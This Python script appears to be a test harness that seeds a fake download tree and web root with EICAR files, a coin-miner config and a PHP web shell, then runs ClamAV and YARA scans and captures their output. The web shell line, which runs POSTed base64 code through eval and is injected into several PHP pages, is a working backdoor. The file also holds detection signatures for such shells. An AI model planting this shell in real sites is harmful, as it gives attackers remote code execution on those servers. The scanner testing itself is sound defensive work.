"""Round 171, scanners: ClamAV's daemon (clamd on a local socket, a signature database written here since freshclam is
offline) through clamdscan, `clamscan --debug`, and YARA rules printing matched strings and metadata, all over a
tree of downloads and a web root with EICAR test files, archives, a PHP web shell and a miner config put in.
Extractors are the rules of NEEDLES.md's "Round 171" section. Run through capture_wide171.py."""

from __future__ import annotations

import hashlib
import io
import random
import re
import tarfile
import time
import zipfile
from pathlib import Path

import capture_more as cm
from capture_more import any_of, mask, run, write_tree
from capture_wide171 import add, exit_lines

EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SHELL = '<?php if(isset($_POST["k"])){ eval(base64_decode($_POST["k"])); } ?>\n'
MINER = '{"pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "4Ahx", "pass": "x"}], "cpu": true}\n'


# ------------------------------------------------------------------ the tree

def _clean_text(r: random.Random, n: int) -> str:
    words = ["invoice", "shipment", "router", "kernel", "ledger", "harbour", "quarterly", "budget", "firmware",
             "lantern", "backup", "schedule", "customer", "archive", "meeting", "notes", "draft", "review"]
    return "\n".join(" ".join(r.choice(words) for _ in range(r.randint(6, 14))) for _ in range(n)) + "\n"


def make_tree(root: Path) -> None:
    """downloads/ and www/: seeded clean files with the infected ones put in."""
    r = random.Random(171)
    dl, www = root / "downloads", root / "www"
    for d in ("docs", "invoices", "firmware", "archives", "tmp"):
        (dl / d).mkdir(parents=True, exist_ok=True)
    for i in range(70):
        d = r.choice(["docs", "invoices", "firmware", "tmp"])
        ext = r.choice(["txt", "csv", "md", "log", "cfg"])
        (dl / d / f"{d[:3]}-{i:03d}.{ext}").write_text(_clean_text(r, r.randint(3, 40)))
    (dl / "tmp" / "eicar.com").write_text(EICAR)
    (dl / "docs" / "readme-first.txt.com").write_text(EICAR + "\n")
    (dl / "invoices" / "invoice-2291.pdf.exe").write_bytes(b"MZ" + b"\0" * 62 + EICAR.encode())
    (dl / "firmware" / "miner.json").write_text(MINER)
    with zipfile.ZipFile(dl / "archives" / "tools.zip", "w") as z:
        z.writestr("tools/readme.txt", _clean_text(r, 10))
        z.writestr("tools/eicar_inner.com", EICAR)
        z.writestr("tools/config.json", MINER)
    for i in range(6):
        with zipfile.ZipFile(dl / "archives" / f"bundle-{i}.zip", "w") as z:
            for k in range(r.randint(2, 5)):
                z.writestr(f"b{i}/part{k}.txt", _clean_text(r, r.randint(3, 15)))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for name, body in (("backup/etc/hosts", "127.0.0.1 localhost\n"), ("backup/shell.php", SHELL),
                           ("backup/notes.txt", _clean_text(r, 5))):
            data = body.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    (dl / "archives" / "site-backup.tar.gz").write_bytes(buf.getvalue())
    (dl / "tmp" / "dangling.lnk").symlink_to(dl / "tmp" / "gone-already.txt")
    import base64
    (dl / "mail").mkdir(exist_ok=True)
    for i in range(90):  # a quarantine export of mail, some with the test file attached
        bad = r.random() < 0.3
        att = base64.b64encode(EICAR.encode() if bad else _clean_text(r, 3).encode()).decode()
        fname = r.choice(["invoice.pdf.com", "scan.zip.com", "statement.com", "notes.txt"])
        (dl / "mail" / f"msg-{i:04d}.eml").write_text(
            f"From: billing{r.randint(1, 99)}@example.invalid\nTo: ops@example.invalid\nSubject: document {i}\n"
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b1\"\n\n--b1\nContent-Type: text/plain\n\n"
            f"{_clean_text(r, 2)}\n--b1\nContent-Type: application/octet-stream; name=\"{fname}\"\n"
            f"Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=\"{fname}\"\n\n{att}\n--b1--\n")
    pages = {}
    for i in range(160):
        sect = r.choice(["blog", "shop", "admin", "assets", "shop/cart", "blog/feeds"])
        pages[f"{sect}/page{i:02d}.php"] = "<?php\n" + "".join(
            f'echo "{w}";\n' for w in _clean_text(r, r.randint(2, 9)).split()[:30]) + "?>\n"
    for key in r.sample(sorted(pages), 9):  # the web shell injected into existing pages
        pages[key] = pages[key].replace("?>\n", "?>\n" + SHELL)
    pages["uploads/avatar-77.php"] = SHELL
    pages["uploads/.cache.php"] = "<?php /* cache */ " + SHELL
    pages["assets/js/analytics.js"] = "var s='stratum+tcp://pool.example.invalid:3333';\n" + "x=1;\n" * 20
    write_tree(www, pages)


def make_db(db: Path) -> None:
    """The signatures: the EICAR file by hash, body signatures for the web shell and the miner (.ndb)."""
    db.mkdir(parents=True, exist_ok=True)
    md5 = hashlib.md5(EICAR.encode()).hexdigest()
    (db / "local.hdb").write_text(f"{md5}:{len(EICAR)}:Local.Eicar-Test-File.Hash\n")
    hexs = lambda s: s.encode().hex()  # noqa: E731
    (db / "local.ndb").write_text(
        f"Local.Eicar.Body-1:0:*:{hexs('EICAR-STANDARD-ANTIVIRUS-TEST-FILE')}\n"
        f"Local.PHP.Webshell.EvalB64-1:0:*:{hexs('eval(base64_decode(')}\n"
        f"Local.Coinminer.Stratum-1:0:*:{hexs('stratum+tcp://')}\n")


# ------------------------------------------------------------------ extractors

@cm.kind("clamdscan", "log")
def n_clamdscan(lines):
    """Rule 1/3/5 on clamdscan: every FOUND line, every ERROR line, WARNING lines one any per shape, the SCAN SUMMARY's Infected files/Total errors/Time lines."""
    out = [ln for ln in lines if ln.rstrip().endswith(" FOUND")]
    out += [ln for ln in lines if re.search(r"\bERROR\b", ln)]
    out += cm.groups((mask(ln), ln) for ln in lines if re.search(r"\bWARNING\b", ln))
    out += [ln for ln in lines if re.match(r"^(Infected files|Total errors|Time):", ln)]
    return out + exit_lines(lines)


@cm.kind("clamscan-debug", "log")
def n_clamscan_debug(lines):
    """Rule 1/3/5 on clamscan --debug: every FOUND line, LibClamAV Error/Warning line, signature-match line; the summary's Known viruses/Scanned files/Infected files/Engine version lines."""
    out = []
    for ln in lines:
        if ln.rstrip().endswith(" FOUND") or re.search(r"LibClamAV (Error|Warning)", ln) \
                or re.search(r"\bmatched\b|Virus\(es\) detected", ln):
            out.append(ln)
    out += [ln for ln in lines if re.match(r"^(Known viruses|Scanned files|Infected files|Engine version):", ln)]
    return out + exit_lines(lines)


@cm.kind("yara-scan-strings", "log")
def n_yara_strings(lines):
    """Rule 1/5 on yara -s -m: every match line, the first string line under each, error lines, warnings one any per shape."""
    out = []
    for i, ln in enumerate(lines):
        if re.match(r"^[A-Za-z_]\w* (\[.*\] )?\S", ln) and not re.match(r"^0x[0-9a-f]+:", ln) \
                and not re.search(r"\b(error|warning)\b", ln, re.I):
            out.append(ln)
            if i + 1 < len(lines) and re.match(r"^0x[0-9a-f]+:\$", lines[i + 1]):
                out.append(lines[i + 1])
    out += [ln for ln in lines if re.search(r"\berror\b", ln, re.I)]
    out += cm.groups((mask(ln), ln) for ln in lines if re.search(r"\bwarning\b", ln, re.I))
    return out + exit_lines(lines)


# ------------------------------------------------------------------ steps

CLAMD_CONF = """LocalSocket {sock}
FixStaleSocket yes
DatabaseDirectory {db}
Foreground yes
LogFile {log}
LogTime yes
PidFile {pid}
User root
TemporaryDirectory {tmp}
ScanArchive yes
MaxFileSize 2M
AlertExceedsMax yes
"""


def cap_clamav(tmp: Path) -> None:
    root = tmp / "host"
    make_tree(root)
    db = tmp / "clamdb"
    make_db(db)
    big = root / "downloads" / "firmware" / "fw-image-3.2.bin"
    big.write_bytes(random.Random(7).randbytes(3 * 1024 * 1024))
    (tmp / "clamtmp").mkdir(exist_ok=True)
    conf = tmp / "clamd.conf"
    sock = tmp / "clamd.sock"
    conf.write_text(CLAMD_CONF.format(sock=sock, db=db, log=tmp / "clamd.log", pid=tmp / "clamd.pid", tmp=tmp / "clamtmp"))
    cm.start(["clamd", "-c", str(conf)], cwd=tmp)
    for _ in range(120):
        if sock.exists():
            break
        time.sleep(0.5)
    time.sleep(1)
    cc = f"--config-file={conf}"
    dl = root / "downloads"
    add("clamdscan-multiscan", "clamdscan --multiscan --fdpass downloads/",
        run(f"clamdscan {cc} --multiscan --fdpass downloads/", cwd=root), n_clamdscan)
    add("clamdscan-www-verbose", "clamdscan -v www/ ; echo EXIT=$?",
        run(f"clamdscan {cc} -v www/ ; echo EXIT=$?", cwd=root), n_clamdscan)
    add("clamdscan-xargs-php", "find www -name '*.php' -print0 | sort -z | xargs -0 clamdscan --fdpass",
        run(f"find www -name '*.php' -print0 | sort -z | xargs -0 clamdscan {cc} --fdpass", cwd=root), n_clamdscan)
    add("clamdscan-all-tail", "clamdscan --fdpass downloads/ www/ 2>&1 | tail -n 60",
        run(f"clamdscan {cc} --fdpass downloads/ www/ 2>&1 | tail -n 60", cwd=root), n_clamdscan)
    add("clamdscan-missing", "clamdscan --fdpass downloads/archives downloads/tmp /srv/uploads ; echo EXIT=$?",
        run(f"clamdscan {cc} --fdpass downloads/archives downloads/tmp /srv/uploads ; echo EXIT=$?", cwd=root),
        n_clamdscan)
    add("clamdscan-mail", "clamdscan --fdpass downloads/mail ; echo EXIT=$?",
        run(f"clamdscan {cc} --fdpass downloads/mail ; echo EXIT=$?", cwd=root), n_clamdscan)
    d = f"-d {db}"
    add("clamscan-debug-mail", "clamscan --debug -d clamdb downloads/mail/msg-000*.eml 2>&1 | tail -n 200",
        run(f"clamscan --debug {d} downloads/mail/msg-000*.eml 2>&1 | tail -n 200", cwd=root), n_clamscan_debug)
    add("clamscan-debug-archives", "clamscan --debug -d clamdb downloads/archives 2>&1 | tail -n 150",
        run(f"clamscan --debug {d} downloads/archives 2>&1 | tail -n 150", cwd=root), n_clamscan_debug)
    add("clamscan-debug-tmp", "clamscan --debug -d clamdb -r downloads/tmp downloads/invoices",
        run(f"clamscan --debug {d} -r downloads/tmp downloads/invoices", cwd=root), n_clamscan_debug)
    add("clamscan-debug-grep", "clamscan --debug -d clamdb -r www/ 2>&1 | grep -iE 'found|error|warning|match|infected|scanned|loaded|detect'",
        run(f"clamscan --debug {d} -r www/ 2>&1 | grep -iE 'found|error|warning|match|infected|scanned|loaded|detect'", cwd=root),
        n_clamscan_debug)
    add("clamscan-debug-zip", "clamscan --debug -d clamdb downloads/archives/tools.zip ; echo EXIT=$?",
        run(f"clamscan --debug {d} downloads/archives/tools.zip ; echo EXIT=$?", cwd=root), n_clamscan_debug)


YARA_RULES = r'''
rule Eicar_Test_File : test
{
    meta:
        author = "secops"
        severity = "info"
        reference = "EICAR standard test string"
    strings:
        $e = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
    condition:
        $e
}

rule PHP_Webshell_Eval : webshell php
{
    meta:
        author = "secops"
        severity = "critical"
        ticket = "SEC-4412"
    strings:
        $eval = "eval(base64_decode(" nocase
        $post = "$_POST[" ascii
    condition:
        $eval and $post
}

rule Coinminer_Config : miner
{
    meta:
        author = "secops"
        severity = "high"
    strings:
        $s = "stratum+tcp://" ascii wide
        $pool = /pool\.[a-z.]+:\d{4}/
    condition:
        any of them
}

rule Keyword_Budget : docs
{
    meta:
        severity = "low"
        note = "finance keyword sweep"
    strings:
        $b = "budget"
        $q = "quarterly"
    condition:
        #b > 3 or $q
}

rule PE_Header_Renamed : pe
{
    meta:
        severity = "medium"
    condition:
        uint16(0) == 0x5A4D
}
'''

YARA_BAD = YARA_RULES + r'''
rule Slow_Hex : perf
{
    strings:
        $h = { 4? ?? ?? }
        $x = "ab"
    condition:
        $h or $x
}
'''


def cap_yara(tmp: Path) -> None:
    root = tmp / "host"
    if not (root / "downloads").exists():
        make_tree(root)
    (tmp / "rules.yar").write_text(YARA_RULES)
    (tmp / "rules_perf.yar").write_text(YARA_BAD)
    add("yara-strings-downloads", "yara -s -m -r rules.yar downloads/",
        run(f"yara -s -m -r {tmp}/rules.yar downloads/", cwd=root), n_yara_strings)
    add("yara-strings-www", "yara -s -m -g -r rules.yar www/ ; echo EXIT=$?",
        run(f"yara -s -m -g -r {tmp}/rules.yar www/ ; echo EXIT=$?", cwd=root), n_yara_strings)
    add("yara-strings-perf", "yara -s -m -r rules_perf.yar downloads/docs 2>&1 | head -n 120",
        run(f"yara -s -m -r {tmp}/rules_perf.yar downloads/docs 2>&1 | head -n 120", cwd=root), n_yara_strings)
    add("yara-strings-tagged", "yara -s -m -t webshell -t miner -r rules.yar . 2>&1",
        run(f"yara -s -m -t webshell -t miner -r {tmp}/rules.yar . 2>&1", cwd=root), n_yara_strings)


STEPS = [cap_clamav, cap_yara]
